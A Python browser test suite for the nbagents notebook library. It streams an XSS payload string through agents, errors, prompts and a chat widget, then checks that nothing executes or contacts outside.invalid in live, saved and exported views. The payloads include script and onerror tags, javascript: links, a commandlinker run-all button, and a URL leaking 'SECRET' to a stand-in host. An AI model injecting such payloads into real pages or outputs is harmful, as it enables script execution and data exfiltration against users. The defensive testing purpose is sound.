"""What a model says runs nothing and fetches nothing: live, frozen, and on the page."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from nbagents.render import page_html

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

HOSTILE = """\
<script>window.pwned = 1; fetch('http://outside.invalid/script')</script>
<img src="http://outside.invalid/pixel.png" onerror="window.pwned = 2">
<svg onload="window.pwned = 3"><a href="javascript:window.pwned=4">x</a></svg>
[a link](javascript:window.pwned=5) [another](data:text/html,<script>window.pwned=6</script>)
![remote](http://outside.invalid/image.png) ![ref][r]
<iframe srcdoc="<script>parent.pwned = 7</script>"></iframe>
<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">click</button>
<style>@import url(http://outside.invalid/style.css); * {background: url(http://outside.invalid/bg)}</style>
<link rel="stylesheet" href="http://outside.invalid/link.css"><base href="http://outside.invalid/">
![drawn](data:image/svg+xml,<svg onload="window.pwned=9"/>) <http://outside.invalid/?d=SECRET>

[r]: http://outside.invalid/reference.png
"""
SPEAKER = f"""\
import asyncio
from nbagents import AgentBase, Msg

HOSTILE = {HOSTILE!r}

class Hostile(AgentBase):
    async def reply(self, x=None):
        from nbagents import events
        for start in range(0, len(HOSTILE), 40):
            events.emit("delta", text=HOSTILE[start:start + 40])
            await asyncio.sleep(0.03)
        print(HOSTILE)
        return Msg(self.name, HOSTILE)

hostile = Hostile("hostile")
"""
FAILING = """\
class Failing(AgentBase):
    async def reply(self, x=None):
        raise ValueError(HOSTILE)

failing = Failing("<img src=x onerror=window.pwned=8>")
"""
ASKING = """\
from nbagents.agents import UserAgent
UserAgent(HOSTILE[:400], input_hint=HOSTILE, choices=[HOSTILE[:200]], default=HOSTILE[:200], timeout=6)(
    HOSTILE, schema={"properties": {"<img src=x onerror=window.pwned=10>": {"title": HOSTILE[:200]}}}
).content
"""
CHATTING = """\
from nbagents.widgets import ChatWidget
chat = ChatWidget({"<img src=x onerror=window.pwned=11>": hostile})
chat.heard("say", {"text": HOSTILE})
chat
"""


@pytest.mark.parametrize("app", ["lab", "notebook"])
def test_hostile_text_runs_nothing_and_fetches_nothing(desk, tmp_path: Path, app: str) -> None:
    desk.share(app)
    echo = "You are an echo. Repeat what you are told."
    cells = [
        "%load_ext nbagents",
        SPEAKER,
        "%%agents hostile\nSpeak.",
        f"%%agent parrot -m demo\n{echo}",
        f"%%agents parrot --raw\n{HOSTILE}",
        "hostile('again')",
        "hostile('and again').result()",
        FAILING,
        "failing('now')",
        "try:\n    failing('now').result()\nexcept ValueError:\n    raise",
        "%agents show parrot",
        CHATTING,
        ASKING,
    ]
    desk.write("a.ipynb", cells)
    notebook = desk.open("a.ipynb")
    notebook.run(0)
    notebook.run(1)
    notebook.run(2, wait=False)
    notebook.page.wait_for_function(
        "document.querySelectorAll('.jp-Cell')[2].querySelector('article')?.innerText.includes('script')"
    )
    assert notebook.page.evaluate("window.pwned") is None  # live
    notebook.finished()
    for index in range(3, len(cells) - 1):
        notebook.run(index)
    notebook.page.wait_for_selector(".nba-chat article:has-text('window.pwned = 1') >> nth=1")
    notebook.run(len(cells) - 1, wait=False)
    notebook.page.wait_for_selector(".nba-asks:has-text('window.pwned = 1')")
    assert notebook.page.evaluate("window.pwned") is None
    notebook.finished()
    notebook.wait_idle()
    for index in (2, 4, 6):
        assert "window.pwned = 1" in notebook.shown(index), index  # it is there to read, as text
    assert_harmless(notebook)
    html = [
        "".join(output["data"]["text/html"])
        for index in range(len(cells))
        for output in notebook.outputs(index)
        if "text/html" in output.get("data", {})
    ]
    assert len(html) >= 6
    notebook.save()
    notebook.close()

    desk.servers[-1].close_kernels()
    again = desk.open("a.ipynb")  # frozen, in a fresh page
    again.page.wait_for_timeout(500)
    assert_harmless(again)
    again.close()

    page = tmp_path / "page.html"
    page.write_text(page_html("Hostile", [("markdown", HOSTILE), *(("html", h) for h in html)]))
    context = desk.browser.new_context()
    shown = context.new_page()
    asked: list[str] = []
    shown.on("request", lambda request: asked.append(request.url))
    shown.goto(page.as_uri())
    assert shown.evaluate("window.pwned") is None
    assert asked == [page.as_uri()]
    context.close()


def assert_harmless(notebook) -> None:
    page = notebook.page
    for link in page.locator(".jp-RenderedHTML a").all():  # in plain text outputs Jupyter links by itself
        assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))
    assert page.evaluate("window.pwned") is None
    assert [url for url in notebook.requests if "outside.invalid" in url] == []
    found = page.evaluate(
        "() => [...document.querySelectorAll('.jp-OutputArea-output :is(script, iframe, base, link, object,"
        " [data-commandlinker-command], [onerror], [onload], form)')].map(e => e.outerHTML)"
    )
    assert json.dumps(found) == "[]"
    drawn = page.evaluate("() => [...document.querySelectorAll('.nba img')].map(image => image.src)")
    assert [src for src in drawn if not re.match("data:image/(png|jpeg|gif|webp);", src)] == []
